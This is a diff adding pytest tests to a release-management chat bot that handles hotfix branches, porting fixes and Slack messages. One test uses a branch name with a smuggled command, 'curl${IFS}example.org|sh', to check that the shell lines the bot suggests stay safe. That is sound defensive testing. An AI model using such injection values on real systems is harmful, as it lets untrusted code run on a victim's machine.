@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from datetime import timedelta
 from functools import partial
 from pathlib import Path
@@ -12,7 +13,7 @@ import pytest
 from bot.github.written import sections
 from bot.store import Store
 from commands.ports import Request
-from policy.evidence import Tag
+from policy.evidence import PullRequest, Tag
 from policy.model import Sha
 from tests.bot.books import unsettled
 from tests.branches import Branches, Pull
@@ -88,6 +89,15 @@ async def owed(town: Town) -> list[str]:
         return sorted(one.says for one in await bot.store.obligations("checkout"))
 
 
+async def ports(town: Town, what: str) -> None:
+    """Somebody has that brought elsewhere."""
+    async with Bot(town) as bot:
+        said = f"hotfix port checkout {what} ticket:ABC-9 reason:it has the same fault"
+        await bot.hears(Request("port", said, town.people.account("maya"), "C0RELEASES"))
+        await bot.rests()
+        assert not bot.surprises
+
+
 def posted(town: Town, words: str) -> Posted:
     """The newest message that begins so."""
     return [one for one in town.slack.messages if str(one.now["text"]).startswith(words)][-1]
@@ -145,6 +155,39 @@ async def test_two_hotfixes_of_one_version_are_not_begun(town: Town, branches: d
     before = dict(town.github.branches)
     await plays(f"{BEGUN}\nbot → maya: No hotfix was begun: {says}", town)
     assert town.github.branches == before
+
+
+async def test_of_two_that_ask_for_the_same_version_at_once_one_gets_it(town: Town) -> None:
+    words = [f"hotfix start checkout ticket:ABC-{number} reason:totals are wrong" for number in (9, 10)]
+    async with Bot(town) as bot:
+        asked = [Request(said, said, town.people.account("maya"), "C0RELEASES") for said in words]
+        await bot.hears(*asked)
+        await bot.rests()
+        assert not bot.surprises
+    assert len([name for name in town.github.branches if name.startswith("hotfix/1.4.2-")]) == 1
+
+
+@pytest.mark.parametrize(
+    ("happened", "says"),
+    [
+        ("promoted", "prod does not serve c1c1c1c any more. Ask again."),
+        ("begun", "hotfix/1.4.2-ABC-7 is there already for 1.4.2. Go on there, or remove it if nobody needs it."),
+    ],
+)
+async def test_what_happened_while_github_was_away_counts(town: Town, happened: str, says: str) -> None:
+    town.github.moving.away = True
+    await plays(f"{BEGUN}\nbot: Hotfix of checkout: hotfix/1.4.2-ABC-9 is being made.", town)
+    if happened == "begun":
+        town.github.branches["hotfix/1.4.2-ABC-7"] = SERVES
+    else:
+        site, name = site_of("checkout", "prod"), revision_of("checkout", 2)
+        town.runs.add(site, name, digest("checkout", 2), commit("checkout", 2), town.clock.now())
+    town.github.moving.away = False
+    await plays(
+        f"… 5 min later\nbot now: Hotfix of checkout: hotfix/1.4.2-ABC-9 could not be made.\n     …\n     ✗ {says}\n     …",
+        town,
+    )
+    assert "hotfix/1.4.2-ABC-9" not in town.github.branches
 
 
 async def test_without_a_version_there_is_no_next_one(town: Town) -> None:
@@ -380,6 +423,57 @@ async def test_a_conflict_leaves_nothing_and_says_exactly_what_to_do(town: Town)
     assert len(await owed(town)) == 2
 
 
+async def test_what_is_to_be_typed_is_safe_to_type_whatever_branches_are_called(town: Town) -> None:
+    evil = "release/1.6;curl${IFS}example.org|sh"
+    town.github.branches[evil] = commit("checkout", 2)
+    fix = town.github.moving.somebody_commits("main", "Put the totals right")
+    town.github.moving.clashing.append(frozenset({commit("checkout", 2), fix}))
+    await ports(town, f"{fix} to:{evil}")
+    told = posted(town, f"✗ {fix[:7]} cannot be brought to {evil} by itself")
+    for line in told.now["body"]:
+        words = shlex.shlex(str(line).partition("  # ")[0], posix=True, punctuation_chars=True)
+        words.whitespace_split = True
+        assert {word for word in words if set(word) <= set(";|&")} <= {"&&"}, line
+
+
+async def test_a_long_name_leaves_the_title_short_enough(town: Town) -> None:
+    line = f"release/{'x' * 140}"
+    town.github.branches[line] = commit("checkout", 0)
+    fix = town.github.moving.somebody_commits("main", "Put the totals right " * 20)
+    await ports(town, f"{fix} to:{line}")
+    (pull,) = town.github.moving.opened()
+    assert len(pull.title) <= 256  # https://docs.github.com/rest/pulls/pulls#create-a-pull-request
+    assert line in pull.title
+
+
+async def test_where_very_many_branches_would_get_it_nobody_is_flooded(town: Town) -> None:
+    town.github.branches |= {f"release/9.{number}": commit("checkout", 0) for number in range(60)}
+    await released(town)
+    says = "62 branches of acme/checkout are like main or release/*; fixes come to 50 at most."
+    assert posted(town, f"✗ Whether other branches lack what this brought cannot be told: {says}").thread
+    assert town.github.moving.pulls == []
+    fix = town.github.branches["hotfix/1.4.2-ABC-9"]
+    await ports(town, f"{fix} to:main,release/1.5")
+    assert {pull.target for pull in town.github.moving.opened()} == {"main", "release/1.5"}
+
+
+@pytest.mark.requirement("S4-182")
+async def test_what_was_taken_back_where_it_was_brought_to_is_lost_again(town: Town) -> None:
+    fix, pull = await released(town), into(town, "main")
+    town.github.moving.somebody_merges(pull.number)
+    (picked,) = [link for link in town.github.behind(town.github.branches["main"]) if link.picked_from == fix]
+    town.github.moving.somebody_commits("main", "Revert it", reverts=(picked.commit,))
+    newer = town.github.moving.somebody_commits("main", "Go on with 1.6")
+    at, image, name = town.clock.now() - 26 * HOUR, digest("checkout", 4), revision_of("checkout", 4)
+    town.runs.add(site_of("checkout", "stage"), name, image, newer, at)
+    town.github.add_deployment("acme/checkout", newer, "stage", image, name, at)
+    async with Bot(town) as bot:
+        await bot.rests()
+        await bot.hears(Request("late", "why checkout stage→prod", town.people.account("maya"), "C0RELEASES"))
+    told = posted(town, "checkout stage→prod").now["body"]
+    assert any(line.startswith(f"✗ no-hotfix-lost: the candidate lacks what was shipped as {fix[:7]}") for line in told)
+
+
 # Elsewhere, too -------------------------------------------------------------------------------------------------------
 
 
@@ -441,6 +535,15 @@ async def test_ticket_original_and_backport_stand_together_in_the_books(town: To
 )
 async def test_what_cannot_be_brought_is_said(town: Town, words: str, says: str) -> None:
     await plays(f"maya: /release {words.format(v2=commit('checkout', 2))}\nbot → maya: {says}", town)
+
+
+async def test_of_very_many_commits_no_part_is_brought(town: Town) -> None:
+    made = [town.github.moving.somebody_commits("main", f"Part {number}") for number in range(51)]
+    for one in reversed(made):
+        town.github.pull_requests[one] = PullRequest(77, "Put the totals right", head="fix", base="main")
+    says = "#77 brought more than 50 commits; bring it by hand, or name them one by one."
+    words = "maya: /release hotfix port checkout #77 to:release/1.5 ticket:ABC-9 reason:x"
+    await plays(f"{words}\nbot → maya: Nothing was begun: {says}", town)
 
 
 async def test_a_merge_is_brought_by_the_parent_that_it_is_counted_from(town: Town) -> None:
